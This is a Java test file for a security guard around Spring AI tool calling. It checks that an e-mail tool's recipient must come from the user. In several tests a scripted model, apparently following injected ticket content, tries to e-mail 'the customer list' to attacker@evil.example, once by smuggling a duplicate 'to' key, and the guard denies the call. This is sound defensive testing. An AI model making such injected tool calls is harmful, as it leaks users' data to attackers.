package io.ape.springai;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ape.api.CallStatus;
import io.ape.api.Provenance;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.chat.messages.ToolResponseMessage;
import org.springframework.ai.tool.ToolCallback;

/**
 * The real Spring AI tool loop (ChatClient, its tool calling advisor, DefaultToolCallingManager,
 * MethodToolCallback) driven by a scripted model, with every tool guarded. The engine is a test
 * double ({@link FakeEngine}) with the real provenance tracker; the rule: {@code sendEmail}'s
 * {@code to} must come from the user.
 */
class SpringAiAgentTest {
  static final String USER = "Read ticket 4711 and e-mail a short summary to bob@acme.com";
  static final String DENIED_TEXT =
      "APE denied this tool call: it is not permitted by the security policy.";

  /** The application's own tool context (a method taking ToolContext needs a non-empty one). */
  static final Map<String, Object> APP_CONTEXT = Map.of("tenantDisplayName", "Acme");

  FakeEngine engine;
  FakeEngine.FakeSession session;
  ScriptedChatModel model;

  @BeforeEach
  void setUp() {
    engine = new FakeEngine();
    engine.trustedParameters.put("sendEmail", Set.of("to"));
    session = engine.openSession("s-1");
    model = new ScriptedChatModel();
  }

  String chat(ApeToolCallbacks ape, List<ToolCallback> tools, Map<String, Object> toolContext) {
    try (ApeSessionScope scope = ApeSessionScope.open(session)) {
      return ChatClient.create(model).prompt()
          .advisors(ape.userMessageAdvisor())
          .user(USER)
          .toolCallbacks(tools)
          .toolContext(toolContext)
          .call().content();
    }
  }

  @Test
  void aBenignTaskCompletes() {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    model.callTool("getTicket", "{\"id\":\"4711\"}")
        .callTool("sendEmail", "{\"to\":\"bob@acme.com\",\"subject\":\"Ticket 4711\","
            + "\"body\":\"The printer on floor 3 jams.\"}")
        .answer("Done: Bob has the summary.");

    assertThat(chat(ape, ape.from(tools), Map.of("tenantDisplayName", "Acme")))
        .isEqualTo("Done: Bob has the summary.");
    assertThat(tools.read).containsExactly("4711");
    assertThat(tools.sent).containsExactly(
        "bob@acme.com|Ticket 4711|The printer on floor 3 jams.");
    assertThat(session.userMessages).containsExactly(USER);
    // the tool context reaches the tool as the application set it: nothing of APE's in it
    assertThat(tools.contexts).hasSize(1);
    assertThat(tools.contexts.get(0)).containsEntry("tenantDisplayName", "Acme");
    assertThat(tools.contexts.get(0).keySet()).allMatch(k -> !k.toLowerCase().contains("ape"));
    assertThat(tools.contexts.get(0).values()).noneMatch(v -> String.valueOf(v).contains("s-1"));
  }

  @Test
  void anInjectedRecipientIsDeniedAndTheModelGetsTheTerseError() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    model.callTool("getTicket", "{\"id\":\"4711\"}")
        .callTool("sendEmail", "{\"to\":\"attacker@evil.example\",\"subject\":\"Customers\","
            + "\"body\":\"the customer list\"}")
        .answer("I could not send that e-mail.");

    assertThat(chat(ape, ape.from(tools), APP_CONTEXT)).isEqualTo("I could not send that e-mail.");
    assertThat(tools.sent).isEmpty();
    List<ToolResponseMessage.ToolResponse> responses = model.toolResponses();
    assertThat(responses).extracting(ToolResponseMessage.ToolResponse::name)
        .containsExactly("getTicket", "sendEmail");
    assertThat(responses.get(1).responseData()).isEqualTo(DENIED_TEXT);
    assertThat(engine.audit.get(1)).contains("DENIED", "send-requires-trusted-recipient",
        "to=EXTERNAL_UNTRUSTED");
  }

  @Test
  void inAbortModeTheRefusalEndsTheChatCall() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).refusalMode(RefusalMode.ABORT).build();
    model.callTool("getTicket", "{\"id\":\"4711\"}")
        .callTool("sendEmail", "{\"to\":\"attacker@evil.example\",\"subject\":\"x\","
            + "\"body\":\"y\"}")
        .answer("never reached");

    assertThatThrownBy(() -> chat(ape, ape.from(tools), APP_CONTEXT))
        .isInstanceOf(ApeToolRefusedException.class).hasMessage(DENIED_TEXT)
        .satisfies(e -> {
          ApeToolRefusedException r = (ApeToolRefusedException) e;
          assertThat(r.result().status()).isEqualTo(CallStatus.DENIED);
          assertThat(r.result().parameterLabels())
              .containsEntry("to", Provenance.EXTERNAL_UNTRUSTED);
        });
    assertThat(tools.sent).isEmpty();
  }

  @Nested
  class TheToolDoesNotRunWhen {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    ApeToolCallbacks ape;

    @BeforeEach
    void guard() {
      ape = ApeSpringAi.guard(engine).build();
    }

    String sendEmail(String arguments) {
      model.callTool("sendEmail", arguments).answer("after");
      assertThat(chat(ape, ape.from(tools), APP_CONTEXT)).isEqualTo("after");
      return model.toolResponses().get(0).responseData();
    }

    @Test
    void thereIsNoSession() {
      model.callTool("sendEmail", "{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}")
          .answer("after");
      String answer = ChatClient.create(model).prompt().user(USER)
          .toolCallbacks(ape.from(tools)).call().content();
      assertThat(answer).isEqualTo("after");
      assertThat(model.toolResponses().get(0).responseData())
          .isEqualTo("APE refused this tool call: the call or its arguments are invalid.");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theArgumentsAreNotOneJsonObjectWithoutDuplicateKeys() {
      for (String bad : List.of("{\"to\":\"bob@acme.com\",\"to\":\"attacker@evil.example\","
          + "\"subject\":\"s\",\"body\":\"b\"}", "{not json", "[1]", "{\"to\":1} x")) {
        model = new ScriptedChatModel();
        assertThat(sendEmail(bad)).as(bad).startsWith("APE refused this tool call");
      }
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theEngineFails() {
      engine.failure = new IllegalStateException("audit sink unavailable: disk full");
      assertThat(sendEmail("{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}"))
          .isEqualTo("APE refused this tool call: it could not be checked safely.");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theGateRunsTheToolOnAnotherThread() {
      engine.runner = (tool, parameters) -> CompletableFuture.supplyAsync(() -> {
        try {
          return tool.invoke(parameters);
        } catch (Exception e) {
          throw new IllegalStateException(e);
        }
      }).get(10, TimeUnit.SECONDS);
      session.recordUserMessage(USER);
      assertThat(sendEmail("{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}"))
          .isEqualTo("The tool failed while running.");
      assertThat(tools.sent).isEmpty();
    }
  }

  @Test
  void theToolRunsWithTheBoundParametersNotTheModelsArguments() {
    engine.binding = proposed -> Map.of("to", "bob@acme.com", "subject", "bound subject",
        "body", "bound body");
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    model.callTool("sendEmail", "{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}")
        .answer("ok");
    chat(ape, ape.from(tools), APP_CONTEXT);
    assertThat(tools.sent).containsExactly("bob@acme.com|bound subject|bound body");
  }

  @Test
  void aCallbackIsRegisteredOnceAndNotWrappedTwice() {
    ApeToolCallbacks ape = ApeSpringAi.guard(engine).build();
    List<ToolCallback> first = ape.from(new TicketTools(TicketTools.BENIGN));
    ToolCallback again = ape.guard(first.get(0));
    assertThat(again).isSameAs(first.get(0));
    ape.from(new TicketTools(TicketTools.BENIGN));
    assertThat(engine.registrations).hasValue(2);
    assertThat(first).extracting(Object::toString)
        .containsExactlyInAnyOrder("ApeGuarded[getTicket]", "ApeGuarded[sendEmail]");
  }

  @Test
  void sessionScopesNestAndClose() {
    FakeEngine.FakeSession other = engine.openSession("s-2");
    assertThat(ApeSessionScope.current()).isNull();
    try (ApeSessionScope a = ApeSessionScope.open(session)) {
      try (ApeSessionScope b = ApeSessionScope.open(other)) {
        assertThat(ApeSessionScope.current()).isSameAs(other);
      }
      assertThat(ApeSessionScope.current()).isSameAs(session);
      a.close();
      a.close();
    }
    assertThat(ApeSessionScope.current()).isNull();
  }
}
